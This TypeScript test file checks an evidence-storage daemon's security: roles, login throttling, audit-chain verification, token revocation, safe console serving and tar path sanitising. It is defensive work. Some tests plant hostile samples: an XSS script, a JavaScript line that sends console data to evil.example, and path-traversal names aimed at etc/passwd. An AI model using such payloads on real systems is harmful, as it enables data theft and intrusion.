/**
 * Security, over the wire: roles, user management while the daemon runs,
 * failed-login throttling, the audit trail, the connection file's one-way
 * flags, keys and tokens, evidence bytes and sessions in the console,
 * custody metadata, and folder downloads. HTTPS is in https.test.ts, request
 * and connection limits in request-limits.test.ts.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { generateKey } from '../src/auth/credentials.ts';
import { fallbackName, padding, tarEnd, tarHeader } from '../src/evidence/tar.ts';
import { runCli, SwiftSession, TEST_USERS, TestDaemon } from './helpers/daemon.ts';
import { raw } from './helpers/raw-http.ts';

const run = promisify(execFile);

describe('roles', () => {
  let daemon: TestDaemon;
  let s: SwiftSession;
  const as = async (role: 'uploader' | 'reader' | 'admin' | 'replicator') => {
    if (role === 'replicator') {
      const res = await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': TEST_USERS.replicator.user, 'X-Auth-Key': TEST_USERS.replicator.key });
      return res.headers['x-auth-token'] as string;
    }
    return (await daemon.auth(role)).token;
  };

  before(async () => {
    daemon = await TestDaemon.start();
    s = await SwiftSession.open(daemon);
    await s.req('PUT', '/evidence');
    await s.req('PUT', '/evidence/clip.mkv', {}, 'bytes');
  });
  after(() => daemon.cleanup());

  test('each role may do exactly its part; every denial is 403 and audited', async () => {
    const expect: [string, 'uploader' | 'reader' | 'admin' | 'replicator', string, string, number][] = [
      ['uploader reads no evidence', 'uploader', 'GET', '/evidence/clip.mkv', 403],
      ['uploader lists nothing', 'uploader', 'GET', '/evidence', 403],
      ['uploader checks what it stored', 'uploader', 'HEAD', '/evidence/clip.mkv', 200],
      ['uploader reads the published capabilities', 'uploader', 'GET', '/System/Capabilities.json', 200],
      ['reader reads', 'reader', 'GET', '/evidence/clip.mkv', 200],
      ['reader lists', 'reader', 'GET', '/evidence', 200],
      ['reader writes nothing', 'reader', 'PUT', '/evidence/new.mkv', 403],
      ['reader changes no metadata', 'reader', 'POST', '/evidence', 403],
      ['replicator writes', 'replicator', 'PUT', '/evidence/replicated.mkv', 201],
      ['replicator confirms with HEAD', 'replicator', 'HEAD', '/evidence/replicated.mkv', 200],
      ['replicator reads no evidence', 'replicator', 'GET', '/evidence/replicated.mkv', 403],
      ['admin reads no evidence', 'admin', 'GET', '/evidence/clip.mkv', 403],
      ['admin writes nothing', 'admin', 'PUT', '/evidence/x', 403],
    ];
    for (const [what, role, method, rel, status] of expect) {
      const res = await s.req(method, rel, { 'X-Auth-Token': await as(role) }, method === 'PUT' ? 'data' : undefined);
      assert.equal(res.status, status, what);
    }
    const audit = (await readFile(join(daemon.dataDir, 'audit.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { actor: string; action: string; result: string; target?: string });
    const denials = audit.filter((l) => l.result === '403');
    assert.ok(denials.some((l) => l.actor === TEST_USERS.reader.user && l.action === 'denied PUT object'));
    assert.ok(denials.some((l) => l.actor === 'bws' && l.action === 'denied GET object' && l.target?.endsWith('/evidence/clip.mkv')));
    assert.equal(denials.length, expect.filter((e) => e[4] === 403).length);
  });

  test('users are managed while the daemon runs: add, log in, disable (tokens die), passwd of the BWS user rewrites connection.json', async () => {
    const added = await runCli(['user', 'add', 'clerk1', '--role', 'reader', '--data', daemon.dataDir]);
    assert.equal(added.code, 0, added.stderr);
    const key = /key \(shown once, store it now\): (\S+)/.exec(added.stdout)![1]!;
    const login = await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'clerk1', 'X-Auth-Key': key });
    assert.equal(login.status, 200);
    const token = login.headers['x-auth-token'] as string;
    assert.equal((await s.req('GET', '/evidence/clip.mkv', { 'X-Auth-Token': token })).status, 200);
    assert.equal((await runCli(['user', 'disable', 'clerk1', '--data', daemon.dataDir])).code, 0);
    await new Promise((r) => setTimeout(r, 1100)); // the daemon re-reads credentials at most once a second
    assert.equal((await s.req('GET', '/evidence/clip.mkv', { 'X-Auth-Token': token })).status, 401, "a disabled user's token stops working");
    assert.equal((await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'clerk1', 'X-Auth-Key': key })).status, 401);
    const list = await runCli(['user', 'list', '--data', daemon.dataDir]);
    assert.match(list.stdout, /^clerk1\s+reader\s+account bws\s+\(disabled\)$/m);
    const listed = JSON.parse((await runCli(['user', 'list', '--json', '--data', daemon.dataDir])).stdout) as { user: string; role: string; disabled?: boolean }[];
    assert.deepEqual(
      listed.filter((u) => u.user === 'clerk1').map((u) => [u.role, u.disabled]),
      [['reader', true]],
    );
    assert.match((await runCli(['user', 'add', 'x', '--role', 'superuser', '--data', daemon.dataDir])).stderr, /--role: one of uploader, reader, replicator, admin/);

    const oldKey = (await daemon.connectionFile()).BlobAPIKey;
    const oldToken = (await daemon.auth()).token;
    const passwd = await runCli(['user', 'passwd', 'bws', '--data', daemon.dataDir]);
    assert.equal(passwd.code, 0, passwd.stderr);
    const newKey = (await daemon.connectionFile()).BlobAPIKey;
    assert.notEqual(newKey, oldKey);
    await new Promise((r) => setTimeout(r, 1100));
    assert.equal((await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'bws', 'X-Auth-Key': newKey })).status, 200);
    assert.equal((await daemon.request('GET', '/auth/v1.0', { 'X-Auth-User': 'bws', 'X-Auth-Key': oldKey })).status, 401);
    assert.equal((await s.req('HEAD', '/evidence', { 'X-Auth-Token': oldToken })).status, 401, 'a new key voids the tokens the old one got');
    const audit = await readFile(join(daemon.dataDir, 'audit.jsonl'), 'utf8');
    for (const action of ['user.add', 'user.disable', 'user.passwd']) assert.match(audit, new RegExp(`"action":"${action.replace('.', '\\.')}"`));
  });
});

describe('failed logins', () => {
  test('slow down per address and user with a growing delay (429 + Retry-After); the lockout is logged', async () => {
    const daemon = await TestDaemon.start();
    try {
      const file = await daemon.connectionFile();
      const login = (key: string, from: string) =>
        raw(daemon.port, `GET /auth/v1.0 HTTP/1.1\r\nHost: x\r\nX-Auth-User: ${file.BlobAPIUserName}\r\nX-Auth-Key: ${key}\r\nConnection: close\r\n\r\n`, 3000, from);
      const status = async (key: string, from = '127.0.0.1') => Number(/^HTTP\/1\.1 (\d+)/.exec(await login(key, from))?.[1]);
      // The BWS's docking station has logged in from 127.0.0.2 before.
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200);
      for (let i = 0; i < 6; i++) assert.equal(await status('wrong-key-0000'), 401);
      const locked = await login(file.BlobAPIKey, '127.0.0.1');
      assert.match(locked, /^HTTP\/1\.1 429 /, 'even the right key waits while locked');
      const retryAfter = Number(/Retry-After: (\d+)/i.exec(locked)?.[1]);
      assert.ok(retryAfter >= 1);
      assert.ok(daemon.logLines.some((l) => l.includes('failed logins: locked out')));
      // The user name is locked too, from any address: a guesser gains nothing by changing it.
      assert.equal(await status(file.BlobAPIKey, '127.0.0.4'), 429);
      // But not for the addresses the BWS logs in from: its dock still gets in.
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200);
      await new Promise((r) => setTimeout(r, retryAfter * 1000 + 100));
      assert.equal(await status(file.BlobAPIKey), 200);
      // A correct key clears its address: the next mistake is free again.
      assert.equal(await status('wrong-key-0000'), 401);
      assert.equal(await status(file.BlobAPIKey), 200);
      // Swift's account:user form names the same user; anything longer is refused, not a fresh name to guess with.
      const forged = await raw(
        daemon.port,
        `GET /auth/v1.0 HTTP/1.1\r\nHost: x\r\nX-Auth-User: bws:${file.BlobAPIUserName}:x\r\nX-Auth-Key: ${file.BlobAPIKey}\r\nConnection: close\r\n\r\n`,
        3000,
        '127.0.0.3',
      );
      assert.match(forged, /^HTTP\/1\.1 401 /);
    } finally {
      await daemon.cleanup();
    }
  });

  test("nobody keeps the BWS out with its name: others' failures never lock the addresses it logs in from", async () => {
    const daemon = await TestDaemon.start();
    try {
      const file = await daemon.connectionFile();
      const status = async (key: string, from: string) =>
        Number(
          /^HTTP\/1\.1 (\d+)/.exec(
            await raw(daemon.port, `GET /auth/v1.0 HTTP/1.1\r\nHost: x\r\nX-Auth-User: ${file.BlobAPIUserName}\r\nX-Auth-Key: ${key}\r\nConnection: close\r\n\r\n`, 3000, from),
          )?.[1],
        );
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200, 'the dock, once');
      // The finding: an address that failed once, then fourteen failures as the BWS from other addresses.
      assert.equal(await status('wrong', '127.0.0.2'), 401, "the dock's own slip makes it a suspect address");
      for (let i = 0; i < 14; i++) assert.ok([401, 429].includes(await status('wrong', `127.0.1.${i + 1}`)));
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200, 'the BWS with its key gets in');
      assert.equal(await status(file.BlobAPIKey, '127.0.0.2'), 200, 'and again');
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('audit trail', () => {
  test('records custody, verifies its chain, names the first broken line, and shows a recording', async () => {
    const daemon = await TestDaemon.start();
    try {
      const s = await SwiftSession.open(daemon);
      await s.req('PUT', '/rec-1', { 'X-Container-Meta-Status': 'Transferring' });
      await s.req('PUT', '/rec-1/clip.mkv', {}, 'clip');
      await s.req('GET', '/rec-1/clip.mkv');
      const show = await runCli(['audit', 'show', '--recording', 'rec-1', '--data', daemon.dataDir]);
      const lines = show.stdout
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { actor: string; action: string; result: string; prev: string });
      assert.deepEqual(
        lines.map((l) => [l.actor, l.action, l.result]),
        [
          ['bws', 'container.put', '201'],
          ['bws', 'object.put', '201'],
          [TEST_USERS.reader.user, 'object.get', '200'],
        ],
      );
      assert.ok(lines.every((l) => /^[0-9a-f]{64}$/.test(l.prev)));
      assert.equal((await runCli(['audit', 'verify', '--data', daemon.dataDir])).code, 0);
      await daemon.stop();

      const path = join(daemon.dataDir, 'audit.jsonl');
      const text = await readFile(path, 'utf8');
      const all = text.split('\n');
      const victim = all.findIndex((l) => l.includes('"object.get"'));
      all[victim] = all[victim]!.replace('"object.get"', '"object.head"');
      await writeFile(path, all.join('\n'));
      const verify = await runCli(['audit', 'verify', '--data', daemon.dataDir]);
      assert.equal(verify.code, 1);
      assert.match(verify.stdout, new RegExp(`BROKEN at line ${victim + 1}`));
      const report = await runCli(['audit', 'verify', '--json', '--data', daemon.dataDir]);
      assert.equal(report.code, 1);
      assert.equal(JSON.parse(report.stdout).firstBad.line, victim + 1);
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('the connection file only ever turns WantEncryption and FullStoreAndReadSupport on', () => {
  test('true is issued with a valid RSA key; going back to false is refused with the reason', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'edgecd-flags-'));
    try {
      const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
      await writeFile(join(dir, 'key.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
      const config = (wantEncryption: boolean) =>
        writeFile(
          join(dir, 'edgecd.json'),
          JSON.stringify({ connection: { wantEncryption, publicKeyFile: join(dir, 'key.pem'), publicKeyId: 'evidence-2026', fullStoreAndReadSupport: wantEncryption } }),
        );
      await config(true);
      assert.equal((await runCli(['init', '--data', dir])).code, 0);
      const file = JSON.parse(await readFile(join(dir, 'connection.json'), 'utf8'));
      assert.equal(file.WantEncryption, true);
      assert.equal(file.PublicKeyId, 'evidence-2026');
      assert.match(Buffer.from(file.PublicKey, 'base64').toString(), /BEGIN PUBLIC KEY/);
      assert.equal((await runCli(['connection-file', '--check', join(dir, 'connection.json')])).code, 0);
      await config(false);
      const refused = await runCli(['init', '--data', dir, '--key', 'another-key-123']);
      assert.equal(refused.code, 1);
      assert.match(refused.stderr, /WantEncryption was issued as true on .*change only from false to true/);
      assert.equal(JSON.parse(await readFile(join(dir, 'connection.json'), 'utf8')).WantEncryption, true, 'the issued file is left as it was');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('generated keys', () => {
  test('never start with "-" or "_" (a command line would read them as options), and carry 256 bits', () => {
    // About 3 % of raw base64url keys start with one of them: 2000 draws would meet ~60.
    for (let i = 0; i < 2000; i++) {
      const key = generateKey();
      assert.match(key, /^[A-Za-z0-9][A-Za-z0-9_-]{42}$/);
    }
  });
});

describe('tokens and key changes', () => {
  test('a login that raced a key change gets a token the new key voids all the same', async () => {
    const { Hono } = await import('hono');
    const { Credentials, LiveCredentials, hashKey } = await import('../src/auth/credentials.ts');
    const { TokenRegistry } = await import('../src/auth/tokens.ts');
    const { changeUser } = await import('../src/auth/users.ts');
    const { requireToken } = await import('../src/http/middleware/auth.ts');
    const { statusOf } = await import('../src/lib/errors.ts');
    const dir = await mkdtemp(join(tmpdir(), 'edgecd-tokens-'));
    try {
      const file = join(dir, 'credentials.json');
      await new Credentials([{ user: 'bws', account: 'bws', role: 'uploader', key: await hashKey('old-key-0000') }]).save(file);
      const credentials = await LiveCredentials.open(file);
      const tokens = new TokenRegistry(3600);
      const app = new Hono();
      app.onError((err, c) => c.text(err.message, statusOf(err) as never));
      app.get('/v1/x', requireToken({ tokens, credentials }) as never, (c) => c.text('ok'));
      // The login is checked against the credentials as they were...
      const proved = await (await credentials.current()).verify('bws', 'old-key-0000');
      assert.ok(proved);
      // ...the key changes meanwhile...
      await changeUser(file, { op: 'passwd', user: 'bws', key: 'new-key-1111' });
      await new Promise((r) => setTimeout(r, 5));
      // ...and the token is issued after the change, as a slow scrypt would have it.
      const { token } = tokens.issue(proved);
      credentials.invalidate();
      assert.equal((await app.request('/v1/x', { headers: { 'X-Auth-Token': token } })).status, 401);
      const fresh = tokens.issue((await (await credentials.current()).verify('bws', 'new-key-1111'))!);
      assert.equal((await app.request('/v1/x', { headers: { 'X-Auth-Token': fresh.token } })).status, 200);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('evidence bytes in the console', () => {
  test('are never served as a page: a stored text/html or text/javascript object downloads, in a sandbox; a clip plays as video, by its name', async () => {
    const daemon = await TestDaemon.start();
    try {
      const s = await SwiftSession.open(daemon);
      assert.equal((await s.req('PUT', '/case')).status, 201);
      const planted: Record<string, [string, string]> = {
        'evil.html': ['text/html', '<script src="/console/recordings/case/object?name=evil.js"></script>'],
        'evil.js': ['text/javascript', 'fetch("/console/recordings").then((r) => r.text()).then((t) => location = "https://evil.example/?" + encodeURIComponent(t))'],
        '20240101T000000Z_1.mkv': ['text/html', '<script>alert(1)</script>'],
      };
      for (const [name, [type, body]] of Object.entries(planted)) assert.equal((await s.req('PUT', `/case/${name}`, { 'Content-Type': type }, body)).status, 201);
      const login = await fetch(`${daemon.base}/console/login`, {
        method: 'POST',
        redirect: 'manual',
        headers: { Origin: daemon.base, 'Content-Type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ user: TEST_USERS.reader.user, key: TEST_USERS.reader.key }),
      });
      const cookie = login.headers.get('set-cookie')!.split(';')[0]!;
      const get = (name: string) => fetch(`${daemon.base}/console/recordings/case/object?name=${encodeURIComponent(name)}`, { headers: { Cookie: cookie } });
      for (const name of ['evil.html', 'evil.js']) {
        const res = await get(name);
        assert.equal(res.status, 200);
        assert.equal(res.headers.get('content-type'), 'application/octet-stream', `${name}: never its stored type`);
        assert.match(res.headers.get('content-disposition')!, /^attachment;/);
        assert.match(res.headers.get('content-security-policy')!, /^sandbox;/);
        assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      }
      const clip = await get('20240101T000000Z_1.mkv');
      assert.equal(clip.headers.get('content-type'), 'video/x-matroska');
      assert.match(clip.headers.get('content-disposition')!, /^inline;/);
      assert.match(clip.headers.get('content-security-policy')!, /^sandbox;/);
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('console sessions', () => {
  test("a user's logins end only that user's oldest sessions, never another's; searches are audited", async () => {
    const daemon = await TestDaemon.start();
    try {
      const login = async (who: 'reader' | 'admin') => {
        const res = await fetch(`${daemon.base}/console/login`, {
          method: 'POST',
          redirect: 'manual',
          headers: { Origin: daemon.base, 'Content-Type': 'application/x-www-form-urlencoded' },
          body: new URLSearchParams({ user: TEST_USERS[who].user, key: TEST_USERS[who].key }),
        });
        assert.equal(res.status, 303);
        return res.headers.get('set-cookie')!.split(';')[0]!;
      };
      const live = async (cookie: string, path: string) => (await fetch(`${daemon.base}${path}`, { redirect: 'manual', headers: { Cookie: cookie } })).status === 200;
      const admin = await login('admin');
      const readers: string[] = [];
      for (let i = 0; i < 25; i++) readers.push(await login('reader'));
      assert.ok(await live(admin, '/console/station'), "the admin's session outlives the reader's logins");
      assert.ok(!(await live(readers[0]!, '/console/recordings')), "the reader's oldest sessions ended");
      assert.ok(await live(readers[24]!, '/console/recordings'));
      assert.equal((await Promise.all(readers.map((r) => live(r, '/console/recordings')))).filter(Boolean).length, 20);

      await fetch(`${daemon.base}/console/recordings?user=badge-4711&from=2026-01-01`, { headers: { Cookie: readers[24]! } });
      const lines = (await readFile(join(daemon.dataDir, 'audit.jsonl'), 'utf8'))
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { actor: string; action: string; details?: Record<string, unknown> });
      const search = lines.filter((l) => l.action === 'console.recording.search' && l.details?.user === 'badge-4711');
      assert.equal(search.length, 1);
      assert.equal(search[0]!.actor, TEST_USERS.reader.user);
      assert.equal(search[0]!.details!.from, '2026-01-01');
      assert.equal(search[0]!.details!.shown, 0);
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('custody metadata', () => {
  test("only a replicating station may set it: an uploader's edgecd-* keys are kept apart, never taken for custody", async () => {
    const daemon = await TestDaemon.start();
    try {
      const s = await SwiftSession.open(daemon);
      assert.equal((await s.req('PUT', '/case')).status, 201);
      const forged = {
        'X-Object-Meta-Edgecd-Station': 'HQ%20evidence%20room',
        'X-Object-Meta-Edgecd-Received': '2020-01-01T00:00:00.000Z',
        'X-Object-Meta-Edgecd-Sha256': '0'.repeat(64),
      };
      assert.equal((await s.req('PUT', '/case/clip.mkv', forged, 'bytes')).status, 201, 'stored: the claim is not checked, only kept apart');
      const head = await s.req('HEAD', '/case/clip.mkv');
      assert.equal(head.headers['x-object-meta-edgecd-station'], undefined);
      assert.equal(head.headers['x-object-meta-claimed-edgecd-station'], 'HQ%20evidence%20room');
      assert.equal((await s.req('POST', '/case/clip.mkv', { 'X-Object-Meta-Edgecd-Received': '2020-01-01T00:00:00.000Z' })).status, 202);
      assert.equal((await s.req('HEAD', '/case/clip.mkv')).headers['x-object-meta-edgecd-received'], undefined);
      // A replicator's custody keys are custody, and their SHA-256 is checked against the bytes.
      const replicator = await daemon.auth('replicator');
      const put = (sha: string) =>
        daemon.request(
          'PUT',
          `${replicator.account}/case/replicated.mkv`,
          { 'X-Auth-Token': replicator.token, 'X-Object-Meta-Edgecd-Sha256': sha, 'X-Object-Meta-Edgecd-Station': 'Station%207' },
          'bytes',
        );
      assert.equal((await put('0'.repeat(64))).status, 422);
      assert.equal((await put(createHash('sha256').update('bytes').digest('hex'))).status, 201);
      assert.equal((await s.req('HEAD', '/case/replicated.mkv')).headers['x-object-meta-edgecd-station'], 'Station%207');
    } finally {
      await daemon.cleanup();
    }
  });
});

describe('folder downloads', () => {
  test('a tar reader without pax support gets names that stay inside the folder; a pax reader gets the real names', async () => {
    const hostile = [
      'abc../' + '../'.repeat(40) + 'etc/passwd',
      'case/..',
      'case/./x',
      'case//x',
      '/abs/x',
      'café/' + 'é'.repeat(80) + '.mkv',
      'c/' + 'x'.repeat(120) + '/..',
      '..',
    ];
    const dir = await mkdtemp(join(tmpdir(), 'edgecd-tar-'));
    try {
      const parts: Buffer[] = [];
      for (const path of hostile) {
        const header = tarHeader({ path, size: 1, mtime: 0 });
        // The ustar name field of the header that comes last (after any pax header).
        const name = header
          .subarray(header.length - 512, header.length - 412)
          .toString('latin1')
          .replace(/\0.*$/s, '');
        assert.ok(name.length > 0 && name.length <= 100, name);
        assert.ok(!name.startsWith('/'), name);
        for (const part of name.split('/')) assert.ok(part !== '' && part !== '.' && part !== '..', `${path} → ${name}`);
        assert.equal(name.split('/')[0], fallbackName(path.split('/')[0]!).slice(0, 40), `${path}: stays in its folder`);
        parts.push(header, Buffer.from('x'), padding(1));
      }
      parts.push(tarEnd());
      await writeFile(join(dir, 'a.tar'), Buffer.concat(parts));
      const listed = (await run('tar', ['-tf', join(dir, 'a.tar')])).stdout.trim().split('\n');
      assert.deepEqual(listed, hostile, 'GNU tar reads the pax names');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
